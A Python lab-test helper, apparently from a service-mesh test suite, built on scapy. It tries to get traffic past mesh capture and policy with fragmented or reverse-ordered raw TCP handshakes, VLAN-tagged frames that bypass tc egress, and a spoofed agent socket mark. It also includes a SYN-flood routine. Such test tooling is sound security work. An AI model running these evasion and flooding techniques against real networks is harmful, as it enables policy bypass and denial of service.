"""An attacker's tools for lab tests, run inside a pod: TCP by hand with scapy.

    python rawtcp.py handshake DST PORT SPORT MARKER [--fragment N] [--reverse] [--shadow]
                                                     [--ip-options]
    python rawtcp.py frame IFACE DST PORT SPORT --tags none|one|qinq|adq [--bypass]
    python rawtcp.py mark DST PORT MARKER
    python rawtcp.py flood DST PORT COUNT [--src IP]
    python rawtcp.py udp DST PORT MARKER

Each prints one JSON line: what came back, and the capabilities it ran with (the tests run
it as root and under Docker's default set, which has CAP_NET_RAW but not CAP_NET_ADMIN).

`handshake` opens a TCP connection from raw IP packets (optionally each split into IP
fragments of N bytes of payload, sent last fragment first with --reverse; with 40 bytes of
IP options, IHL 15, with --ip-options) and sends
`GET /MARKER`; the kernel's own reply to the SYN-ACK would be a reset, so the caller either
drops resets in its namespace (root outside the mesh) or, with --shadow, first opens an
ordinary connection on the same ports through the mesh: the pod's own stack then answers the
real server's packets with ACKs that capture takes back to the agent, and only the raw
fragments go out. `frame` sends one SYN as an Ethernet frame through a packet socket, with
802.1Q/802.1ad tags as asked (--bypass: PACKET_QDISC_BYPASS, which skips tc egress).
`flood` sends COUNT SYNs from as many ports and never completes them, filling a listener's
queue of half-open connections until it answers with SYN cookies.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import random
import socket
import subprocess
import sys
import time

from scapy.all import IP, TCP, Dot1AD, Dot1Q, Ether, IPOption_RR, IPv6, fragment, raw

AGENT_MARK = 0x539
SOL_PACKET = 263
PACKET_QDISC_BYPASS = 20
CAP_NET_ADMIN, CAP_NET_RAW = 12, 13


def capabilities() -> dict[str, bool]:
    with open("/proc/self/status") as f:
        eff = next(int(line.split()[1], 16) for line in f if line.startswith("CapEff:"))
    return {"net_admin": bool(eff >> CAP_NET_ADMIN & 1), "net_raw": bool(eff >> CAP_NET_RAW & 1)}


def own_ip(dst: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((dst, 9))  # no packet: asks the routing table
        return str(s.getsockname()[0])


class Sniffer:
    """Frames arriving on an interface (a packet socket sees them before tc ingress)."""

    def __init__(self, iface: str) -> None:
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.sock.bind((iface, 0))
        self.sock.settimeout(0.1)

    def wait(self, match, timeout: float):
        end = time.monotonic() + timeout
        while time.monotonic() < end:
            try:
                frame = self.sock.recv(65535)
            except TimeoutError:
                continue
            pkt = Ether(frame)
            if TCP in pkt and match(pkt):
                return pkt
        return None


def handshake(args: argparse.Namespace) -> dict:
    dst, port, sport = args.dst, args.port, args.sport
    src = own_ip(dst)
    sniffer = Sniffer("eth0")
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    result: dict = {}
    shadow = None
    if args.shadow:
        shadow = socket.socket()
        shadow.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        shadow.bind(("0.0.0.0", sport))
        shadow.settimeout(5)
        shadow.connect((dst, port))
        # An ordinary request on it: the mesh works for this pod (kept alive, HTTP/1.1).
        shadow.sendall(f"GET /{args.marker}-mesh HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        result["mesh_reply"] = shadow.recv(65536).split(b"\r\n", 1)[0].decode()

    def send(pkt) -> None:
        pkt[IP].id = random.randint(1, 65535)
        if args.ip_options:  # a Record Route option with room for 9 hops: IHL 15
            pkt[IP].options = [IPOption_RR(routers=["0.0.0.0"] * 9)]
        parts = fragment(pkt, fragsize=args.fragment) if args.fragment else [pkt]
        for part in reversed(parts) if args.reverse else parts:
            out.sendto(raw(part), (dst, 0))

    def from_server(pkt) -> bool:
        return (
            IP in pkt and pkt[IP].src == dst and pkt[TCP].sport == port and pkt[TCP].dport == sport
        )

    isn = random.randint(0, 2**31)
    # Options make the header 40 bytes, so a fragment of 24 holds the flags and one of 8 not.
    opts = [("MSS", 1400), ("NOP", None), ("WScale", 7), ("SAckOK", b""), ("Timestamp", (1, 0))]
    send(IP(src=src, dst=dst) / TCP(sport=sport, dport=port, flags="S", seq=isn, options=opts))
    synack = sniffer.wait(lambda p: from_server(p) and p[TCP].flags & 0x12 == 0x12, args.timeout)
    result["synack"] = synack is not None
    if synack is not None:
        ack = synack[TCP].seq + 1
        base = IP(src=src, dst=dst) / TCP(sport=sport, dport=port, flags="A", seq=isn + 1, ack=ack)
        send(base.copy())
        request = f"GET /{args.marker} HTTP/1.0\r\nHost: x\r\n\r\n".encode()
        data = base.copy()
        data[TCP].flags = "PA"
        send(data / request)
        reply = sniffer.wait(lambda p: from_server(p) and len(p[TCP].payload) > 0, args.timeout)
        result["reply"] = bytes(reply[TCP].payload)[:40].decode(errors="replace") if reply else None
    if shadow is not None:
        shadow.close()
    return result


def gateway_mac(iface: str, dst: str) -> str:
    """The next hop's MAC for `dst` (ARP or neighbour discovery first, by sending a datagram)."""
    family = socket.AF_INET6 if ":" in dst else socket.AF_INET
    route = subprocess.run(["ip", "route", "get", dst], capture_output=True, text=True).stdout
    hop = route.split(" via ")[1].split()[0] if " via " in route else dst
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.sendto(b"x", (hop, 9))
    for _ in range(50):
        neigh = subprocess.run(
            ["ip", "neigh", "show", hop, "dev", iface], capture_output=True, text=True
        ).stdout
        if "lladdr" in neigh:
            return neigh.split("lladdr ")[1].split()[0]
        time.sleep(0.02)
    raise SystemExit(f"no neighbour entry for {hop} on {iface}")


def frame(args: argparse.Namespace) -> dict:
    v6 = ipaddress.ip_address(args.dst).version == 6
    src = args.src or own_ip(args.dst)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    sock.bind((args.iface, 0))
    if args.bypass:
        sock.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    with open(f"/sys/class/net/{args.iface}/address") as f:
        mac = f.read().strip()
    l3 = (IPv6(src=src, dst=args.dst) if v6 else IP(src=src, dst=args.dst)) / TCP(
        sport=args.sport, dport=args.port, flags="S", seq=random.randint(0, 2**31)
    )
    tags = {
        "none": [],
        "one": [Dot1Q(vlan=0)],
        "qinq": [Dot1Q(vlan=0), Dot1Q(vlan=0)],
        "adq": [Dot1AD(vlan=0), Dot1Q(vlan=0)],
    }[args.tags]
    pkt = Ether(src=mac, dst=gateway_mac(args.iface, args.dst))
    for tag in tags:
        pkt = pkt / tag
    sniffer = Sniffer(args.iface)
    result: dict = {}
    try:
        sock.send(raw(pkt / l3))
    except OSError as exc:  # tc egress dropped it (ENOBUFS)
        result["send_error"] = str(exc)
    answer = sniffer.wait(
        lambda p: p[TCP].sport == args.port and p[TCP].dport == args.sport, args.timeout
    )
    return {**result, "answer": str(answer[TCP].flags) if answer is not None else None}


def mark(args: argparse.Namespace) -> dict:
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, AGENT_MARK)  # CAP_NET_RAW is enough
    s.settimeout(args.timeout)
    try:
        s.connect((args.dst, args.port))
        s.sendall(f"GET /{args.marker} HTTP/1.0\r\nHost: x\r\n\r\n".encode())
        reply = s.recv(65536)
    except OSError as exc:
        return {"mark_set": True, "error": f"{type(exc).__name__}: {exc}"}
    return {"mark_set": True, "reply": reply.split(b"\r\n", 1)[0].decode()}


def flood(args: argparse.Namespace) -> dict:
    src = args.src or own_ip(args.dst)
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    base = random.randint(10000, 60000 - args.count)
    for i in range(args.count):
        syn = TCP(sport=base + i, dport=args.port, flags="S", seq=random.randint(0, 2**31))
        out.sendto(raw(IP(src=src, dst=args.dst, id=i + 1) / syn), (args.dst, 0))
    return {"sent": args.count}


def udp(args: argparse.Namespace) -> dict:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(args.marker.encode(), (args.dst, args.port))
    return {"sent": True}


def main() -> None:
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    h = sub.add_parser("handshake")
    h.add_argument("dst")
    h.add_argument("port", type=int)
    h.add_argument("sport", type=int)
    h.add_argument("marker")
    h.add_argument("--fragment", type=int, default=0)
    h.add_argument("--reverse", action="store_true")
    h.add_argument("--shadow", action="store_true")
    h.add_argument("--ip-options", action="store_true")
    h.add_argument("--timeout", type=float, default=2.0)
    f = sub.add_parser("frame")
    f.add_argument("iface")
    f.add_argument("dst")
    f.add_argument("port", type=int)
    f.add_argument("sport", type=int)
    f.add_argument("--tags", default="none")
    f.add_argument("--src", default="")
    f.add_argument("--bypass", action="store_true")
    f.add_argument("--timeout", type=float, default=2.0)
    m = sub.add_parser("mark")
    m.add_argument("dst")
    m.add_argument("port", type=int)
    m.add_argument("marker")
    m.add_argument("--timeout", type=float, default=3.0)
    fl = sub.add_parser("flood")
    fl.add_argument("dst")
    fl.add_argument("port", type=int)
    fl.add_argument("count", type=int)
    fl.add_argument("--src", default="")
    u = sub.add_parser("udp")
    u.add_argument("dst")
    u.add_argument("port", type=int)
    u.add_argument("marker")
    args = p.parse_args()
    commands = {"handshake": handshake, "frame": frame, "mark": mark, "flood": flood, "udp": udp}
    result = commands[args.cmd](args)
    print(json.dumps({"caps": capabilities(), **result}), flush=True)


if __name__ == "__main__":
    sys.exit(main())
